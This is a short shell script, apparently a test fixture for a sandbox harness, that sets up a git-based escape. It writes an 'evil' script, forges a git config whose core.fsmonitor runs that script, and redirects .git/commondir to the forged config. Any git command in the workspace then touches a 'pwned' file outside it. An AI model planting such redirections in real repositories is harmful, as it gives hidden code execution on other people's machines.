#!/bin/sh
: > "$ARENA/ws/ran"
cat > "$ARENA/ws/evil" <<END
#!/bin/sh
touch "$ARENA/outside/pwned"
cat
END
chmod +x "$ARENA/ws/evil"
cp -r .git forged; git config -f forged/config core.fsmonitor "$ARENA/ws/evil"
echo ../forged > .git/commondir
